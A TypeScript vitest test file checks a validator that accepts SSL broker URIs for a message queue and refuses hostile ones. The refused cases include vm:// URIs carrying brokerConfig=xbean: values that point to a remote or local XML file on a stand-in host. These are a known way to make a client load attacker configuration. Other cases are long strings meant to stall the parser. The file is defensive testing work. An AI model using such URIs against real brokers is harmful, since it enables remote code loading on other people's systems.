import { expect, test } from 'vitest'
import { isNetworkUri } from '#services/mq/configuration/network-uri.ts'

test.each([
  'static:(ssl://127.0.0.2:61617)',
  'static:(ssl://b-1234a5b6-78cd-901e-2fgh-3i45j6k178l9-1.mq.us-east-2.amazonaws.com:61617)',
  'masterslave:(ssl://a-1.mq.us-east-2.amazonaws.com:61617,    ssl://a-2.mq.us-east-2.amazonaws.com:61617)',
  'static:failover:(ssl://a:61617,ssl://b:61617)?randomize=false&maxReconnectAttempts=0',
  'static:(failover:(ssl://a:61617,ssl://b:61617)?randomize=false&maxReconnectAttempts=0)',
  'static:(ssl://[::1]:61617?wireFormat.maxFrameSize=104857600)',
])('%s names brokers', (uri) => {
  expect(isNetworkUri(uri)).toBe(true)
})

test.each([
  'vm://evil?brokerConfig=xbean:http://evil.test/x.xml',
  'static:(vm://evil?brokerConfig=xbean:http://evil.test/x.xml)',
  'static:(ssl://a:61617,vm://evil?brokerConfig=xbean:file:///tmp/x.xml)',
  'static:(failover:(vm://evil?create=true))',
  'static:(ssl://a:61617?x=xbean:http://evil.test)',
  'static:(tcp://a:61616)',
  'multicast://default',
  'http://evil.test/discovery',
  'fanout:(static:(ssl://a:61617))',
  'static:()',
  'static:(ssl://a)',
  'static:(ssl://a:61617',
  'ssl://a:61617',
  '',
  `static:(${'ssl://a:61617,'.repeat(1_000)}ssl://a:61617)`,
])('%s is refused', (uri) => {
  expect(isNetworkUri(uri)).toBe(false)
})

test('a hostile text takes no time', () => {
  for (const uri of [`static:(${'('.repeat(100_000)}`, `static:(${'a'.repeat(4_000)}`, 'static:('.repeat(600)])
    expect(isNetworkUri(uri)).toBe(false)
})
